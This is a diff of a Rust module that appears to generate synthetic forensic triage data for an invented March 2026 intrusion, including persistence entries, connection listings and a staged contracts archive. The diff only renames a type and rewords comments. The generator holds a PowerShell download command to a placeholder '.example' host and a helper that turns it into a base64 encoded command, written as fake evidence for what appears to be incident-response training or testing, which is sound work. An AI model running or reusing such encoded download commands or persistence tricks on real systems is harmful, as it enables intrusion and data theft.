@@ -1,25 +1,25 @@
-//! What happened on 10 March 2026 at an invented company, and what its
-//! responders brought back the morning after.
+//! The incident of 10 March 2026 at an invented company, and the results
+//! collected the morning after.
 //!
-//! Nothing here works as an attack: commands fetch nothing, addresses are from
-//! the ranges set aside for documentation, names end in `.example`.
+//! Nothing works as an attack: commands fetch nothing, addresses are from the
+//! documentation ranges, names end in `.example`.
 
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 
 use crate::error::GenerateError;
 use crate::sample::case::{Case, Line, Visit};
-use crate::sample::quirk::Form;
+use crate::sample::quirk::TranscriptFormat;
 use crate::section::Section::*;
 use crate::wrap::{Packed, locked_zip, utf16, zip};
 
 type Written = Result<(), GenerateError>;
 
-/// What the encoded command decodes to.
+/// The decoded command.
 const FETCH: &str =
     "Invoke-WebRequest -Uri http://cdn.parcel-notice.example/a -OutFile $env:TEMP\\upd.txt";
 
-/// `text` as PowerShell takes an encoded command: base64 of UTF-16LE.
+/// `text` as an encoded PowerShell command: base64 of UTF-16LE.
 fn encoded(text: &str) -> String {
     let wide: Vec<_> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
     STANDARD.encode(wide)
@@ -75,7 +75,7 @@ pub(crate) fn first_look(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-Persistence.ps1",
         "-All",
-        Form::Plain,
+        TranscriptFormat::Plain,
         &[Services, Tasks, Autoruns, RunKeys],
         &[
             (Services, "Running  ParcelRelay                  Parcel Tracking Relay                          Auto      C:\\ProgramData\\Parcel\\relay.exe -k track"),
@@ -85,7 +85,7 @@ pub(crate) fn first_look(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-Activity.ps1",
         "-Connections -Dns",
-        Form::Gzipped,
+        TranscriptFormat::Gzipped,
         &[Processes, Connections, DnsCache],
         &[
             (Processes, "  6620    712    0 relay.exe                       18436 K  C:\\ProgramData\\Parcel\\relay.exe -k track"),
@@ -102,7 +102,7 @@ pub(crate) fn first_look(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-RecentEvents.ps1",
         "-Newest 70",
-        Form::Plain,
+        TranscriptFormat::Plain,
         &[Events],
         &story,
     )?;
@@ -162,7 +162,7 @@ fn grabs_of_first_look(case: &mut Case<'_>, command: &str) -> Written {
     visit.script(
         "Get-UserFiles.ps1",
         "-Hash SHA256",
-        Form::Gzipped,
+        TranscriptFormat::Gzipped,
         &[UserFiles],
         &[
             (UserFiles, "SHA256          0E62B7F1449A4C0C9D35E8127F5D6B90A3C1D2E4F5061728394A5B6C7D8E9F01       C:\\Users\\petra.lind\\Downloads\\Invoice_88213.zip"),
@@ -173,7 +173,7 @@ fn grabs_of_first_look(case: &mut Case<'_>, command: &str) -> Written {
     visit.close("Succeeded")
 }
 
-/// What Outlook saved, as a small archive inside the triage zip.
+/// Attachments saved by Outlook, as a zip inside the triage zip.
 fn outlook(at: &str, user: &str) -> String {
     format!(
         "Received,Sender,Recipient,Subject,Attachment\r\n\
@@ -244,7 +244,7 @@ pub(crate) fn second_foothold(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-Persistence.ps1",
         "-All",
-        Form::Gzipped,
+        TranscriptFormat::Gzipped,
         &[Services, Tasks, Autoruns, RunKeys],
         &[
             (Autoruns, "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run,ParcelSync,enabled,,(Not verified),1.0.0,C:\\ProgramData\\Parcel\\relay.exe,"),
@@ -254,7 +254,7 @@ pub(crate) fn second_foothold(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-Activity.ps1",
         "-Connections -Dns",
-        Form::Crlf,
+        TranscriptFormat::Crlf,
         &[Processes, Connections, DnsCache],
         &[
             (Processes, "  9148   4410    1 relay.exe                       17992 K  C:\\ProgramData\\Parcel\\relay.exe -k track"),
@@ -284,21 +284,21 @@ pub(crate) fn second_foothold(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-UserFiles.ps1",
         "-Hash SHA256",
-        Form::Plain,
+        TranscriptFormat::Plain,
         &[UserFiles],
         &[(UserFiles, &relay)],
     )?;
     visit.close("Succeeded")
 }
 
-/// FS-01: logged on to with a service account, contracts packed. DC-01 saw the
-/// logons.
+/// FS-01: logon with a service account, folder of contracts packed. DC-01 has
+/// the logon events.
 pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
     let mut visit = case.visit("FS-01", 90, "INC-0311 file server");
     visit.script(
         "Get-Activity.ps1",
         "-Connections -Dns",
-        Form::Plain,
+        TranscriptFormat::Plain,
         &[Processes, Connections, Users],
         &[
             (
@@ -318,7 +318,7 @@ pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-RecentEvents.ps1",
         "-Newest 70",
-        Form::Gzipped,
+        TranscriptFormat::Gzipped,
         &[Events],
         &[
             (Events, ""),
@@ -341,7 +341,7 @@ pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
     visit.transcript(
         "Get-Folder.ps1",
         "-Path C:\\ProgramData\\Parcel",
-        Form::Loose,
+        TranscriptFormat::Loose,
         0,
         listing,
         "",
@@ -368,7 +368,7 @@ pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
     visit.script(
         "Get-RecentEvents.ps1",
         "-Newest 70",
-        Form::Wide,
+        TranscriptFormat::Wide,
         &[Events],
         &[
             (Events, ""),
@@ -385,7 +385,7 @@ pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
     visit.close("Succeeded")
 }
 
-/// The staging folder, the packing command in the history beside it.
+/// The staging folder, and the packing command in the history.
 fn stage_zip(visit: &mut Visit<'_>) -> Result<Vec<u8>, GenerateError> {
     let modified = visit.now();
     let manifest = "contracts_q1.zip packed 2026-03-10 11:31:55\r\n\
